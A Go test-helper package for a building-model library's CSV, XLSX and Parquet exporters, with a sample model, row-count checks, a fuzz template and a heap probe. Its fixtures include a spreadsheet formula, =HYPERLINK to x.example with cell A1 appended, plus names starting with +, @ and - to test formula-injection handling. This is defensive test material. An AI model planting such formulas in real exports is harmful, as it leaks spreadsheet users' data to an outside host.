// Package tablestest holds what the tests of the tables formats (csv, xlsx,
// parquet) share: a small model with awkward text, expected row counts, a fuzz
// template and a heap probe. Generated models, discarding outputs and the
// benchmark loop are formattest's, shared by every format.
package tablestest

import (
	"context"
	"encoding/json"
	"runtime"
	"runtime/debug"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/arxos/arxport/model"
)

// Formula is a name that a spreadsheet would run if it were written raw.
const Formula = `=HYPERLINK("http://x.example/?q="&A1,"click")`

// Unicode is a name outside ASCII that must survive every format.
const Unicode = "会议室 Café Ωmega"

// Sample is a small valid model with everything the tables hold: a room with a
// hole, rooms named like a formula and in CJK, every geometry kind, equipment
// with manufacturer and model, properties of the three kinds, a connection.
const Sample = `{
  "schema": "arxos.building/v1",
  "id": "B-1",
  "name": "+Tech, \"Tower\"",
  "address": "123 Innovation Drive\nNew York",
  "units": "m",
  "georef": {"lat": 40.7128, "lon": -74.0060, "elevation": 10.0, "rotation": 29.0},
  "properties": {"year_built": 2018, "occupancy": 1200.5, "listed": false, "owner": "@ACME"},
  "floors": [
    {"id": "L1", "name": "Ground Floor", "level": 0, "elevation": 0.0, "height": 4.0,
     "rooms": [
       {"id": "101", "name": "Main Lobby", "type": "lobby",
        "boundary": [[0,0],[10,0],[10,10],[0,10]], "holes": [[[4,4],[6,4],[6,6],[4,6]]], "height": 3.5,
        "properties": {"finish": "stone", "seats": 12, "open": true}},
       {"id": "102", "name": "=HYPERLINK(\"http://x.example/?q=\"&A1,\"click\")", "type": "office",
        "boundary": [[10,0],[20,0],[20,10],[10,10]]},
       {"id": "103", "name": "会议室 Café Ωmega",
        "boundary": [[0,10],[20,10],[20,15],[0,15]], "properties": {"note": "-2+3"}}
     ],
     "elements": [
       {"id": "W-1", "type": "wall", "name": "North wall", "material": "concrete",
        "geometry": {"kind": "line", "start": [0,10], "end": [20,10], "thickness": 0.3, "height": 4.0}},
       {"id": "D-1", "type": "door", "host": "W-1", "name": "@door",
        "geometry": {"kind": "opening", "offset": 5.0, "width": 1.0, "height": 2.1}},
       {"id": "S-1", "type": "slab",
        "geometry": {"kind": "extrusion", "profile": [[0,0],[20,0],[20,10],[0,10]], "base": -0.3, "height": 0.3}},
       {"id": "HVAC_01", "type": "equipment", "system": "hvac", "room": "101", "name": "Thermostat",
        "status": "operational",
        "geometry": {"kind": "box", "position": [3,4,1.5], "size": [0.1,0.1,0.1], "rotation": 0},
        "properties": {"manufacturer": "Google", "model": "Nest Pro", "serial": "0012", "watts": -3.5}},
       {"id": "PANEL_1", "type": "equipment", "system": "electrical", "status": "unknown", "name": "会议室 Café Ωmega",
        "geometry": {"kind": "box", "position": [1,1,0], "size": [0.5,0.2,1.2]}}
     ]},
    {"id": "L2", "name": "First", "level": 1, "elevation": 4.0, "height": 3.0,
     "elements": [
       {"id": "M-1", "type": "generic", "name": "\tTab",
        "geometry": {"kind": "mesh", "vertices": [[0,0,0],[1,0,0],[0,1,0],[0,0,1]],
                     "triangles": [[0,2,1],[0,1,3],[0,3,2],[1,2,3]]}},
       {"id": "C-1", "type": "column", "material": "steel",
        "geometry": {"kind": "extrusion", "profile": [[1000000,5000000],[1000000.3,5000000],[1000000.3,5000000.3],[1000000,5000000.3]], "height": 3.0}}
     ]}
  ],
  "connections": [{"from": "PANEL_1", "to": "HVAC_01", "type": "power", "spec": "120V/1PH/20A"},
                  {"from": "PANEL_1", "to": "M-1", "type": "logical"}]
}`

// Counts returns the rows each table must have, from the model's statistics
// (not from the converter, so a converter that drops rows is caught).
func Counts(m *model.Model) map[string]int64 {
	s := m.Stats
	return map[string]int64{
		"floors":      int64(s.Floors),
		"rooms":       int64(s.Rooms),
		"elements":    int64(s.Elements),
		"equipment":   int64(s.ByType["equipment"]),
		"properties":  int64(s.Properties),
		"connections": int64(s.Connections),
	}
}

// FuzzModel is a model template whose text and numbers the fuzzer chooses; it
// may be invalid (an empty name, a number out of range), in which case the
// caller skips it.
func FuzzModel(name, key, text string, num float64, flag bool) string {
	props := map[string]any{key: text, "n": num, "b": flag}
	doc := map[string]any{
		"schema":     "arxos.building/v1",
		"id":         "B",
		"name":       name,
		"properties": props,
		"floors": []any{map[string]any{
			"id": "F", "name": name, "level": 0, "elevation": num, "height": 3,
			"rooms": []any{map[string]any{
				"id": "R", "name": name, "type": text,
				"boundary":   [][2]float64{{0, 0}, {num, 0}, {num, 5}, {0, 5}},
				"properties": props,
			}},
			"elements": []any{
				map[string]any{"id": "W", "type": "wall", "name": name, "material": text,
					"geometry": map[string]any{"kind": "line", "start": []float64{0, 0}, "end": []float64{num, 1}, "thickness": 0.2, "height": 3}},
				map[string]any{"id": "E", "type": "equipment", "name": text, "room": "R", "system": "hvac", "status": "failed",
					"geometry":   map[string]any{"kind": "box", "position": []float64{1, 1, 0}, "size": []float64{0.5, 0.5, num}},
					"properties": map[string]any{"manufacturer": name, "model": num, key: flag}},
			},
		}},
		"connections": []any{map[string]any{"from": "W", "to": "E", "type": "logical", "spec": text}},
	}
	b, err := json.Marshal(doc)
	if err != nil {
		return ""
	}
	return string(b)
}

// OpenFuzz opens a FuzzModel, or returns nil when the model rejects it.
func OpenFuzz(name, key, text string, num float64, flag bool) *model.Model {
	doc := FuzzModel(name, key, text, num, flag)
	if doc == "" {
		return nil
	}
	m, err := model.Open(context.Background(), strings.NewReader(doc), nil)
	if err != nil {
		return nil
	}
	return m
}

// PeakHeap runs fn and returns how far the heap rose above where it was when
// fn started, sampled every few milliseconds. The collector runs often
// meanwhile (GOGC=10), so the figure is close to what fn keeps live.
func PeakHeap(fn func()) uint64 {
	defer debug.SetGCPercent(debug.SetGCPercent(10))
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	base := ms.HeapAlloc
	var peak atomic.Uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		t := time.NewTicker(2 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-stop:
				return
			case <-t.C:
				var ms runtime.MemStats
				runtime.ReadMemStats(&ms)
				if ms.HeapAlloc > base && ms.HeapAlloc-base > peak.Load() {
					peak.Store(ms.HeapAlloc - base)
				}
			}
		}
	}()
	fn()
	close(stop)
	wg.Wait()
	return peak.Load()
}
